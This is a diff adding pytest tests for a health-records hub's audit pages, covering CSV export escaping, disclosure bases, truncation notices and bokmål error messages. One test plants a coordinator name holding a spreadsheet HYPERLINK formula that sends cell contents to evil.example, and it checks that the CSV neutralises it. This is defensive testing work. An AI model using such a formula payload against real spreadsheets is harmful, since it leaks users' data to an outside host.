@@ -21,9 +21,11 @@ from hub.config import Settings, get_settings
 from hub.db.engine import Database
 from hub.fhir.identifiers import FNR_SYSTEM
 from hub.store import service
+from hub.ui import disclosures
+from hub.ui.disclosures import csv_cell
 from tests.audit.trail import settle
 from tests.ui.conftest import SHARED_FNR as FNR
-from tests.ui.conftest import Browser, sign_in
+from tests.ui.conftest import Browser, make_user, sign_in
 
 
 def _patient_id(database: Database) -> str:
@@ -184,7 +186,7 @@ def test_the_innsyn_copy_is_in_bokmal_whatever_the_auditors_language(
     assert '<html lang="nb">' in page.text
     assert "Hvem har fått og lest hva om deg" in page.text
     assert "Ditt samtykke" in page.text
-    assert "Loven gir adgang" in page.text
+    assert "Et svar på noe de sendte" in page.text  # the basis `reply`, in words
     assert "Time kommune" in page.text
 
 
@@ -325,3 +327,140 @@ def test_a_record_that_cannot_be_read_is_shown_as_such_not_a_failure(
     shown = [e["resource"] for e in mine.json()["entry"]]
     assert "OperationOutcome" not in {r["resourceType"] for r in shown}
     assert theirs - {r["id"] for r in shown} == {json.loads(body)["id"]}
+
+
+def test_no_csv_cell_starts_like_a_spreadsheet_formula(
+        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
+    """A coordinator named like a formula reads the person (requested_by), and Time kommune's
+    directory name starts with `-` (recipient_name): in the CSV each such cell starts with a
+    single quote (OWASP), so a spreadsheet shows it as text; the FHIR Bundle export keeps the
+    name as recorded, and ordinary names stay as they are."""
+    pid = _patient_id(database)
+    formula = '=HYPERLINK("http://evil.example/?d="&A2&B2,"open")a'
+    make_user(database, formula, role="coordinator", organization_id="time-kommune")
+    make_user(database, "@SUM(1+1)", role="coordinator", organization_id="time-kommune")
+    for name in (formula, "@SUM(1+1)", "koordinator.time"):
+        coordinator = browser()
+        assert sign_in(coordinator, name).status_code == 303
+        assert coordinator.get(f"/ui/people/{pid}").status_code == 200
+    with database.session(write=True) as s:
+        org = service.read(s, Subject.hub_itself(), resource_type="Organization",
+                           resource_id="time-kommune").body
+        assert org is not None
+        service.update(s, Subject.hub_itself(), resource_type="Organization",
+                       resource_id="time-kommune", resource={**org, "name": "-2+3 kommune"})
+    client = _auditor(browser)
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/ui/audit/people/{pid}/log.csv").text)))
+    asked = {r["requested_by"] for r in rows}
+    assert {f"'{formula}", "'@SUM(1+1)", "koordinator.time"} <= asked
+    assert formula not in asked
+    names = {r["recipient_name"] for r in rows}
+    assert "'-2+3 kommune" in names
+    assert "Jæren DPS" in names  # the control: an ordinary name as it is
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                       for cell in row.values())
+    bundle = client.get(f"/ui/audit/people/{pid}/trail.json").json()
+    recorded = json.dumps(bundle, ensure_ascii=False)
+    assert json.dumps(formula)[1:-1] in recorded  # the Bundle is unchanged: the name as given
+    assert f"'{formula}" not in recorded
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+47 123", "'+47 123"), ("-3", "'-3"), ("@x", "'@x"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Time kommune", "Time kommune"), ("", ""),
+    ("a=b", "a=b"), ("2026-12-05T10:00:00+00:00", "2026-12-05T10:00:00+00:00")])
+def test_a_csv_cell_is_quoted_only_when_it_starts_like_a_formula(value: str,
+                                                                 cell: str) -> None:
+    assert csv_cell(value) == cell
+
+
+def test_a_read_of_the_patient_by_an_organisation_holding_records_has_its_own_basis(
+        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
+    """Time kommune holds records about Kari, so it may read her Patient (CONTRACT section
+    3): the record names the basis `holds-records`, the log and the CSV show it, and the
+    person's copy says why in words, not "neither consent nor law allows it" (which stays for
+    what was withheld). The consent-based lines keep "Your consent" (the control)."""
+    pid = _patient_id(database)
+    r = shared_story["time-kommune"].get(f"/fhir/Patient/{pid}")
+    assert r.status_code == 200
+    settle(database)  # the read's records wait in the read spool until moved
+    with database.session(write=False) as s:
+        bodies = [json.loads(bytes(b)) for b in s.scalars(select(AuditRecordRow.body).where(
+            AuditRecordRow.patient_ref == f"Patient/{pid}",
+            AuditRecordRow.subtype == "disclose"))]
+    found = []
+    for body in bodies:
+        [basis] = [e for e in body["entity"] if e["role"]["code"] == "13"]
+        details = {d["type"]: d["valueString"] for d in basis["detail"]}
+        if details.get("interaction") == "read":
+            found.append((details["decision"], details.get("basis"), basis["name"]))
+    assert found == [("permit", "holds-records", "legal basis")]
+    client = _auditor(browser)
+    page = client.get(f"/ui/audit/people/{pid}").text
+    reads = _rows(_section(page, "Reads by other organisations, newest first"))
+    assert "Holds records about the person ( holds-records )" in reads[0]
+    assert not any(" none " in f" {r} " for r in reads)
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/ui/audit/people/{pid}/log.csv").text)))
+    assert rows[0]["interaction"] == "read"
+    assert rows[0]["basis"] == "holds-records"
+    nb_page = _auditor(browser, lang="nb").get(f"/ui/audit/people/{pid}").text
+    assert "Har opplysninger om personen" in nb_page
+    innsyn = client.get(f"/ui/audit/people/{pid}/innsyn").text
+    [row] = [r for r in _rows(_section(innsyn, "Opplysninger om deg som ble delt eller holdt "
+                                               "tilbake"))
+             if "De leste opplysningene dine" in r][:1]
+    assert "De har opplysninger om deg, og kan derfor se hvem du er" in row
+    assert "Verken samtykke eller lov gir adgang" not in innsyn
+    assert "Ditt samtykke" in innsyn
+    assert "(reply)" not in innsyn  # a basis in words, not its code
+
+
+def test_a_cut_log_says_so_and_never_claims_all(
+        shared_story: dict[str, TestClient], database: Database, browser: Browser,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """With more records than the page shows (LIMIT, here 5): the page and the innsyn copy
+    say that only the newest are shown and how many there are, the trail's state says "the
+    newest 5 of N", not "all 5"; the CSV holds every record. The control: under the limit,
+    no such notice and "All N"."""
+    pid = _patient_id(database)
+    client = _auditor(browser)
+    whole = client.get(f"/ui/audit/people/{pid}").text
+    assert "Only the newest" not in whole
+    assert re.search(r"All \d+ of this person's disclosure records are intact", whole)
+    total = len(list(csv.DictReader(io.StringIO(
+        client.get(f"/ui/audit/people/{pid}/log.csv").text))))
+    assert total > 5
+    monkeypatch.setattr(disclosures, "LIMIT", 5)
+    page = client.get(f"/ui/audit/people/{pid}").text
+    shown = (_rows(_section(page, "Messages about the person, newest first"))
+             + _rows(_section(page, "Reads by other organisations, newest first")))
+    assert len(shown) == 5
+    assert "Only the newest 5 matching records are shown below" in page
+    assert "The CSV and FHIR Bundle exports hold every record." in page
+    assert "All 5" not in page
+    assert re.search(r"The newest 5 of this person's \d+ disclosure records are intact", page)
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/ui/audit/people/{pid}/log.csv").text)))
+    assert len(rows) >= total  # the CSV is complete (the views above added their own reads)
+    innsyn = client.get(f"/ui/audit/people/{pid}/innsyn").text
+    assert "Denne kopien viser bare de nyeste 5 av de" in innsyn
+    # the filters narrow first, and the limit counts the lines that match
+    dps = client.get(f"/ui/audit/people/{pid}",
+                     params={"organization": "Organization/jaeren-dps"}).text
+    assert _rows(_section(dps, "Messages about the person, newest first"))
+
+
+def test_a_bad_filter_is_refused_in_the_pages_language(
+        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
+    """The error page says in bokmål what was wrong (not "Det går ikke Give the period as
+    dates."); in English, in English (the control)."""
+    pid = _patient_id(database)
+    nb = _auditor(browser, lang="nb").get(f"/ui/audit/people/{pid}", params={"from": "banana"})
+    assert nb.status_code == 400
+    assert "Oppgi perioden som datoer." in nb.text
+    assert "Give the period as dates." not in nb.text
+    nb = _auditor(browser, lang="nb").get(f"/ui/audit/people/{pid}",
+                                          params={"decision": "maybe"})
+    assert "Velg en avgjørelse fra listen." in nb.text
+    en = _auditor(browser).get(f"/ui/audit/people/{pid}", params={"from": "banana"})
+    assert "Give the period as dates." in en.text
